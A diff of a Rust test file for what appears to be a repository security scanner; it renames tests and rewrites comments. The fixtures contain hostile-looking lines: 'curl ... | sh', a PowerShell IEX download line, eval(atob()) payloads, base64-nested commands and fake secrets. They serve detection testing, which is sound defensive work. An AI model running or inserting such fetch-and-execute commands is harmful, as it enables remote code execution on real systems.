@@ -1,4 +1,5 @@
-//! Content: the fast way finds what the slow way finds, secrets stay hidden, and hostile files end.
+//! Tests of content rules: the fast and the exhaustive search agree, secrets stay hidden, and hostile files are
+//! handled.
 
 #![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
 
@@ -11,14 +12,14 @@ use std::path::Path;
 use std::time::Instant;
 use tempfile::TempDir;
 
-/// Everything that a scan reports, but what it took.
+/// The complete report of a scan, without statistics.
 fn whole(options: &AuditOptions) -> serde_json::Value {
     let mut report = report(&scan_with(options));
     report.as_object_mut().unwrap().remove("stats");
     report
 }
 
-/// The same, by short cuts and without any.
+/// The reports of a fast and of an exhaustive scan.
 fn both_ways(path: &Path) -> (serde_json::Value, serde_json::Value) {
     let fast = AuditOptions { persona: Persona::Auditor, ..options(&[path]) };
     let slow = AuditOptions { exhaustive: true, ..fast.clone() };
@@ -55,7 +56,7 @@ fn repository(commits: &[Vec<(&str, Vec<u8>)>]) -> TempDir {
 }
 
 #[test]
-fn short_cuts_find_what_an_exhaustive_search_finds() {
+fn fast_search_matches_exhaustive_search() {
     let output =
         ["reordered-source", "invisible-payload", "moved-into-code", "unread-archives", "taken-back", "other-scanner"];
     for name in output {
@@ -69,9 +70,9 @@ fn short_cuts_find_what_an_exhaustive_search_finds() {
 }
 
 #[test]
-fn deltas_hide_and_double_nothing() {
-    // Forty versions of a file: lines are added in the middle, moved, cut in two and joined, so that a pack keeps them as
-    // deltas whose seams lie within what the rules look for.
+fn deltas_neither_hide_nor_duplicate_findings() {
+    // Forty versions of a file: lines are added in the middle, moved, cut in two and joined, so that a pack stores them
+    // as deltas whose boundaries lie inside the text that rules match.
     let line = |n: usize| format!("const part{n} = compute({n}); // {}\n", "x".repeat(n * 37 % 90));
     let bad = [
         "eval(atob('eA=='));\n",
@@ -100,17 +101,17 @@ fn deltas_hide_and_double_nothing() {
     assert!(slow["findings"].as_array().unwrap().len() >= 4);
 }
 
-/// The same on a repository of the reader's choice: `REPOSITORY=path cargo test --test content -- --ignored`.
+/// The same on a repository of your choice: `REPOSITORY=path cargo test --test content -- --ignored`.
 #[test]
 #[ignore = "takes minutes, and a real repository"]
-fn short_cuts_find_what_an_exhaustive_search_finds_in_a_real_repository() {
+fn fast_search_matches_exhaustive_search_in_a_real_repository() {
     let path = std::env::var("REPOSITORY").unwrap();
     let (fast, slow) = both_ways(Path::new(&path));
     assert_eq!(fast, slow);
 }
 
 #[test]
-fn encodings_and_line_endings_hide_nothing() {
+fn encodings_and_line_endings_do_not_hide_findings() {
     let line = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.org/a')";
     let wide = |little: bool| -> Vec<u8> {
         let mark = if little { [0xff, 0xfe] } else { [0xfe, 0xff] };
@@ -135,7 +136,7 @@ fn encodings_and_line_endings_hide_nothing() {
 }
 
 #[test]
-fn no_secret_is_printed_whole() {
+fn secrets_are_never_printed_in_full() {
     let secret = ["AKIA", "ZQ3T7WKX2NLB4MHD"].concat();
     let hook =
         ["https://discord.com/api/webhooks/123456789012345678/", &"q7Xn2LbVt5KzRw9YcHs4".repeat(4)[..68]].concat();
@@ -152,15 +153,15 @@ fn no_secret_is_printed_whole() {
 }
 
 #[test]
-fn what_is_decoded_is_shown_in_plain() {
+fn decoded_text_is_shown_in_the_report() {
     let text = "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n";
     let folder = repository(&[vec![("lib/a.js", text.as_bytes().to_vec())]]);
     let report = report(&scan(folder.path())).to_string();
-    assert!(report.contains("in plain") && report.contains("https://webhook.site/0000"), "{report}");
+    assert!(report.contains("decoded") && report.contains("https://webhook.site/0000"), "{report}");
 }
 
 #[test]
-fn bundles_and_vendored_files_lower_confidence_and_a_claim_to_be_generated_does_not() {
+fn only_minified_or_vendored_code_lowers_confidence() {
     let payload = "eval(atob('eA=='));\n";
     let at = |path: &'static str, text: String| {
         let folder = repository(&[vec![(path, text.into_bytes())]]);
@@ -177,9 +178,9 @@ fn bundles_and_vendored_files_lower_confidence_and_a_claim_to_be_generated_does_
 }
 
 #[test]
-fn hostile_files_end_soon_and_what_is_left_out_is_said() {
+fn hostile_files_are_bounded_and_omissions_reported() {
     let start = Instant::now();
-    // Base64 of base64 of base64 ..., and more of it than is decoded.
+    // Nested base64, with more layers and more text than are decoded.
     let mut nested = "curl -s https://cdn.example.org/x | sh".to_owned();
     for _ in 0..9 {
         nested = format!("import os; x = '{}'", data_encoding::BASE64.encode(nested.as_bytes()));
@@ -189,14 +190,14 @@ fn hostile_files_end_soon_and_what_is_left_out_is_said() {
     let files = vec![
         ("a/nested.py", nested.into_bytes()),
         ("a/much.py", much.into_bytes()),
-        // One line of eight million bytes, of nothing but what a rule looks for.
+        // One line of eight million bytes that consists only of text that a rule searches for.
         ("a/line.js", "eval(atob(".repeat(800_000).into_bytes()),
         ("a/blanks.js", vec![b' '; 8 << 20]),
         ("a/many.js", "eval(atob(x));\n".repeat(50_000).into_bytes()),
-        // Configurations that are deep, or no configurations.
+        // Deeply nested configuration, and invalid configuration.
         (".github/workflows/deep.yml", format!("on: pull_request_target\na: {}", "[".repeat(200_000)).into_bytes()),
         (".vscode/tasks.json", format!("{{\"tasks\": {}", "[".repeat(200_000)).into_bytes()),
-        // What makes a backtracking engine slow.
+        // Input that is slow for a backtracking regular-expression engine.
         ("a/slow.sh", format!("curl {}!\n", "a|".repeat(100_000)).into_bytes()),
     ];
     let folder = repository(&[files]);
@@ -204,6 +205,6 @@ fn hostile_files_end_soon_and_what_is_left_out_is_said() {
     let report = report(&scan(folder.path()));
     let notices = report["repositories"][0]["notices"].to_string();
     assert!(notices.contains("exceed the limit on pattern matches or encoded text"), "{notices}");
-    // No measurement: a quadratic step anywhere would take hours.
+    // Not a benchmark: a quadratic step would take hours.
     assert!(start.elapsed().as_secs() < 600);
 }
